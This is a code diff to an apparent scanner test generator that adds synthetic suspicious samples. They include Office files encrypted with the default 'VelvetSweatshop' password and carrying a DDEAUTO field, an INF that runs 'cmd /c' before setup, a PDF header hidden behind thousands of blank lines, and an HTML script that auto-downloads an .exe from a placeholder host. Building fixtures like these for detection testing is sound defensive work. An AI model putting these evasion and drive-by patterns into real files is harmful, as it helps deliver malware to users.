@@ -57,6 +57,14 @@ internal static class EveryKind
             (0x00069003, [1, 0, 0, 0, 2, 1, 9, 16, 1, 0, 0, 0, 28, 0, 0, 0, .. new byte[8], .. "LZFu"u8, 0, 0, 0, 0, 0,
                 .. "{\\rtf1 a"u8, 2, 0x7D, 0x0D, 0x80]));
         yield return OutlookMaker.OneNote(Samples.Program, Samples.Png, macros);
+        yield return OfficeLocker.Masked("VelvetSweatshop", [0x85, 0, 8, 0, 0, 0, 0, 0, 1, 1, 0, 0]);
+        yield return OfficeLocker.Document("VelvetSweatshop", isLong: false, "\u0013DDEAUTO a b\u0015");
+        yield return OfficeLocker.Document("VelvetSweatshop", isLong: true, "\u0013DDEAUTO a b\u0015");
+        yield return OfficeLocker.Presentation("VelvetSweatshop", macros);
+        yield return new OleMaker().Add("Details", new byte[600]).Add("File_0", [.. zip.Select(value => (byte)(value ^ 0x6A))]).ToArray();
+        yield return Samples.Bytes("[Version]\r\nSignature=a\r\n[DefaultInstall]\r\nRunPreSetupCommands=A:1\r\n[A]\r\ncmd /c b\r\n");
+        yield return Samples.Bytes("def f(d):\n    return d[0] == b\"%PDF-1.4\"\n" + new string('\n', 4100) + "1 0 obj\n<<>>\nendobj\n");
+        yield return Samples.Bytes("<html><a href=b.exe>c</a><script>l.href = 'http://a.example/a.exe'; l.click(); f.src = 'b.scr'</script>");
         yield return OfficeLocker.Agile(zip, "VelvetSweatshop", rounds: 1);
         yield return OfficeLocker.Workbook("VelvetSweatshop", [0x85, 0, 8, 0, 0, 0, 0, 0, 1, 1, 0, 0], [0x18, 0, 2, 0, 1, 1]);
         yield return ZipMaker.Pack(("META-INF/MANIFEST.MF", Samples.Text), ("A.class", [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 0x34, 0]));
